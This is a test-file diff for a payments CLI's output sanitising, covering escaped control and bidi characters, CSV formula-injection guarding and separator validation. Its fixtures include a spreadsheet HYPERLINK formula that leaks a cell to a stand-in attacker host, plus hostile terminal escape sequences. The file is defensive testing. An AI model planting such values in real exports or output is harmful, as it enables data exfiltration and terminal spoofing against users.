@@ -1,4 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
 import { runCli, runCliInTerminal, tempConfigDir } from '../helpers/cli.js';
 import { startFakeApi, sendJson, type FakeApi } from '../helpers/fake-api.js';
 
@@ -162,5 +164,175 @@ describe('a reader that stops early', () => {
     expect(code).toBe(1);
     expect(stderr).toMatch(/^error: cannot write to stdout: ENOSPC/);
     expect(stderr).not.toContain('bug');
+  });
+});
+
+describe('text from the API made visible (unit)', async () => {
+  const { visible, visibleLines, jsonText } = await import('../../src/output/sanitize.js');
+
+  it('writes C0, DEL, C1 and bidi characters as escapes, and leaves printable text alone', () => {
+    expect(visible('\x1b[2A\x1b]8;;http://x\x07a\x1b]8;;\x07')).toBe(String.raw`\x1b[2A\x1b]8;;http://x\x07a\x1b]8;;\x07`);
+    expect(visible('a\nb\tc\rd\x00\x7f\x85\x9b')).toBe(String.raw`a\nb\tc\rd\x00\x7f\x85\x9b`);
+    expect(visible('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029')).toBe(
+      String.raw`\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029`,
+    );
+    for (const text of ['João Ação 😀 R$ 1.234,56', 'C:\\path', '名前', '']) expect(visible(text)).toBe(text);
+  });
+
+  it('keeps the newlines of text that is payctl’s own', () => {
+    expect(visibleLines('one\x1b[31m\ntwo\u202e')).toBe(String.raw`one\x1b[31m` + '\n' + String.raw`two\u202e`);
+  });
+
+  it('writes JSON whose value is unchanged but holds no raw DEL, C1 or bidi character', () => {
+    const value = { ['k\u202e']: 'a\x1b\x7f\x9b\u2066\u2028b', n: -1.5 };
+    const text = jsonText(value, 2);
+    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
+    expect(JSON.parse(text)).toEqual(value);
+  });
+});
+
+describe.concurrent('csv for spreadsheets', async () => {
+  const { parse } = await import('csv-parse/sync');
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-cmd', '@SUM(1)', '\t=1+1', '\r=1+1', '=1;2', '+55 11 91234-5678', '\uff1dcmd'];
+  const SAFE = ['Ana', "O'Neil", 'a=b', 'R$ 12,34', 'two\nlines', 'semi;colon', 'com,ma', 'quo"te', '  padded  ', '1-2'];
+  const customer = (firstName: string, index: number) => ({
+    id: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`,
+    firstName,
+    lastName: 'Souza',
+    email: 'ana@example.com',
+    phoneNumber: '+5511912345678',
+    document: '52998224725',
+    birthdate: '1990-05-17',
+    address: { statusId: 'APPROVED', zipcode: 1310100, street: 'Av. Paulista', streetNumber: -12.5, complement: '', reference: '', neighborhood: 'Bela Vista', city: 'São Paulo', state: 'SP' },
+    statusId: 'APPROVED',
+    createdAt: '2024-01-01T00:00:00.000Z',
+  });
+  const customers = [...FORMULAS, ...SAFE].map(customer);
+  const withdrawal = { id: 'w-1', amount: -1250, liquidAmount: -12.5, status: 'FAILED', withdrawalPaymentType: 'PIX', pixKeyType: 'EMAIL', pixKey: '-a@example.com', bankAccountId: 7, postbackUrl: null, createdAt: '2024-01-01T00:00:00.000Z', updatedAt: '2024-01-01T00:00:00.000Z' };
+  let server: FakeApi;
+  let serverEnv: Record<string, string>;
+
+  beforeAll(async () => {
+    server = await startFakeApi((request, response) => {
+      if (request.url.startsWith('/customers?')) sendJson(response, 200, { data: customers, meta: { total: customers.length, page: 1, limit: 100, totalPages: 1 }, message: 'ok' });
+      else if (request.url.startsWith('/withdrawals?')) sendJson(response, 200, { data: [withdrawal], meta: { total: 1 }, message: 'ok' });
+      else sendJson(response, 404, { data: { message: 'not found', returnCode: -1404 } });
+    });
+    serverEnv = { PAYCTL_CONFIG_DIR: tempConfigDir(), PAYCTL_BASE_URL: server.url, PAYCTL_TOKEN: 'output-test-token' };
+  });
+  afterAll(() => server.close());
+
+  const csvRows = async (args: string[], delimiter = ',', env = serverEnv) => {
+    const result = await runCli(['customers', 'list', '--limit', '100', '-o', 'csv', ...args], { env });
+    expect(result.code, result.stderr).toBe(0);
+    return parse(result.stdout, { delimiter, relax_quotes: false }) as string[][];
+  };
+
+  it('writes a text cell a spreadsheet would run as a formula with a leading quote, and other text as it is', async () => {
+    const rows = await csvRows(['--fields', 'firstName,lastName']);
+    expect(rows[0]).toEqual(['firstName', 'lastName']);
+    expect(rows.slice(1).map((row) => row[0])).toEqual([...FORMULAS.map((name) => `'${name}`), ...SAFE]);
+    expect(rows.slice(1).map((row) => row[1])).toEqual(Array(FORMULAS.length + SAFE.length).fill('Souza'));
+  });
+
+  it('leaves numbers alone, negative ones too, while text starting with - is escaped', async () => {
+    const result = await runCli(['withdrawals', 'list', '-o', 'csv', '--fields', 'amount,liquidAmount,pixKey,bankAccountId,postbackUrl'], { env: serverEnv });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toBe("amount,liquidAmount,pixKey,bankAccountId,postbackUrl\n-1250,-12.5,'-a@example.com,7,\n");
+    const rows = await csvRows(['--fields', 'address.streetNumber,address.zipcode']);
+    expect(new Set(rows.slice(1).map((row) => row.join('|')))).toEqual(new Set(['-12.5|1310100']));
+  });
+
+  it("--csv-separator ';' writes the same rows, read back by a CSV parser with that delimiter", async () => {
+    const fields = ['--fields', 'id,firstName,lastName,address.city,address.streetNumber'];
+    const comma = await csvRows(fields);
+    const semicolon = await csvRows([...fields, '--csv-separator', ';'], ';');
+    expect(semicolon).toEqual(comma);
+    expect(semicolon).toHaveLength(1 + customers.length);
+    const tab = await csvRows([...fields, '--csv-separator', 'tab'], '\t');
+    expect(tab).toEqual(comma);
+    const pipe = await csvRows([...fields, '--csv-separator', '|'], '|');
+    expect(pipe).toEqual(comma);
+  });
+
+  it("takes the profile's csvSeparator setting, which the flag overrides", async () => {
+    const configDir = tempConfigDir();
+    const env = { ...serverEnv, PAYCTL_CONFIG_DIR: configDir };
+    expect((await runCli(['profiles', 'add', 'ptbr', '--base-url', server.url, '--env', 'local'], { env })).code).toBe(0);
+    expect((await runCli(['profiles', 'use', 'ptbr'], { env })).code).toBe(0);
+    const file = path.join(configDir, 'config.json');
+    const config = JSON.parse(readFileSync(file, 'utf8'));
+    config.profiles.ptbr.csvSeparator = ';';
+    writeFileSync(file, JSON.stringify(config));
+    const fields = ['--fields', 'firstName,lastName'];
+    const fromProfile = await runCli(['customers', 'list', '-o', 'csv', ...fields], { env });
+    expect(fromProfile.stdout.split('\n')[0]).toBe('firstName;lastName');
+    expect(parse(fromProfile.stdout, { delimiter: ';' })).toEqual(await csvRows(fields));
+    const fromFlag = await runCli(['customers', 'list', '-o', 'csv', '--csv-separator', ',', ...fields], { env });
+    expect(fromFlag.stdout.split('\n')[0]).toBe('firstName,lastName');
+  });
+
+  it('refuses a separator that is not one of , ; | tab, naming the flag or the setting, exit 2 and nothing sent', async () => {
+    const silent = await startFakeApi();
+    try {
+      const env = { ...serverEnv, PAYCTL_BASE_URL: silent.url };
+      for (const bad of [';;', '', 'x', '.', '"', '\n']) {
+        const result = await runCli(['customers', 'list', '-o', 'csv', '--csv-separator', bad], { env });
+        expect(result.code, bad).toBe(2);
+        expect(result.stderr).toMatch(/^error: --csv-separator is ".*", not a csv separator: use one of , ; \| or tab\n/);
+        expect(result.stdout).toBe('');
+      }
+      const configDir = tempConfigDir();
+      writeFileSync(path.join(configDir, 'config.json'), JSON.stringify({ currentProfile: 'odd', profiles: { odd: { baseUrl: silent.url, env: 'local', csvSeparator: 'semicolon' } } }));
+      const fromProfile = await runCli(['customers', 'list', '-o', 'csv'], { env: { ...env, PAYCTL_CONFIG_DIR: configDir } });
+      expect(fromProfile.code).toBe(2);
+      expect(fromProfile.stderr).toContain('error: the csvSeparator setting of profile "odd" is "semicolon", not a csv separator: use one of , ; | or tab\n');
+      expect(fromProfile.stderr).toContain(`hint: fix it in ${path.join(configDir, 'config.json')}, or give --csv-separator`);
+      expect(silent.requests).toEqual([]);
+    } finally {
+      await silent.close();
+    }
+  });
+
+  it('at a terminal, csv cells show control characters as text', async () => {
+    const hostile = await startFakeApi((_, response) =>
+      sendJson(response, 200, { data: [customer('=\x1b]0;pwned\x07\u202eX', 1)], meta: { total: 1, page: 1, limit: 20, totalPages: 1 }, message: 'ok' }),
+    );
+    try {
+      const result = await runCliInTerminal(['customers', 'list', '-o', 'csv', '--fields', 'firstName'], { env: { ...serverEnv, PAYCTL_BASE_URL: hostile.url } });
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stdout).toBe(`firstName\n'=${String.raw`\x1b]0;pwned\x07\u202eX`}\n`);
+    } finally {
+      await hostile.close();
+    }
+  });
+});
+
+describe('tables count the width of what shows', () => {
+  it('aligns the columns after a cell holding control characters, with colour on', async () => {
+    const { runCliOnScreen } = await import('../helpers/screen.js');
+    const names = ['Ana', 'B\x1b[31mred\x1b[0m\u202e\x9b', 'Carla Cristina'];
+    const api = await startFakeApi((_, response) =>
+      sendJson(response, 200, {
+        data: names.map((firstName, i) => ({ id: `00000000-0000-4000-8000-00000000000${i}`, firstName, lastName: `L${i}`, email: `p${i}@example.com`, phoneNumber: '+5511912345678', document: '52998224725', birthdate: '1990-05-17', address: null, statusId: i === 1 ? 'PENDING' : 'APPROVED', createdAt: '2024-01-01T00:00:00.000Z' })),
+        meta: { total: 3, page: 1, limit: 20, totalPages: 1 },
+        message: 'ok',
+      }),
+    );
+    try {
+      const run = await runCliOnScreen(['customers', 'list'], { env: { PAYCTL_CONFIG_DIR: tempConfigDir(), PAYCTL_BASE_URL: api.url, PAYCTL_TOKEN: 'output-test-token' }, width: 200 });
+      expect(run.code, run.screen).toBe(0);
+      expect(run.bytes).toContain(ESC); // coloured: headers and statuses
+      const rows = run.screen.split('\n').filter((line) => /^0{8}-/.test(line));
+      expect(rows).toHaveLength(3);
+      expect(rows[1]).toContain(String.raw`B\x1b[31mred\x1b[0m\u202e\x9b`);
+      const lastNameColumns = rows.map((row, i) => row.indexOf(`L${i} `));
+      const statusColumns = rows.map((row) => row.search(/APPROVED|PENDING/));
+      expect(lastNameColumns[0]).toBeGreaterThan(0);
+      expect(new Set(lastNameColumns).size).toBe(1);
+      expect(new Set(statusColumns).size).toBe(1);
+    } finally {
+      await api.close();
+    }
   });
 });
